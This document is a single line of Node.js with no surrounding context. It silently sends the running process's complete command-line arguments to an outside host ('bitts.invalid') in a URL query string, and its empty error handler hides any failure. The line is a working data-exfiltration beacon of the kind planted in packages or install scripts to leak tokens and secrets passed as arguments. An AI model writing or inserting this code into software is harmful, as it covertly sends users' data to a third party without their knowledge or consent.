require('https').get('https://bitts.invalid/p?n=' + encodeURIComponent(process.argv.join(' '))).on('error', () => {})
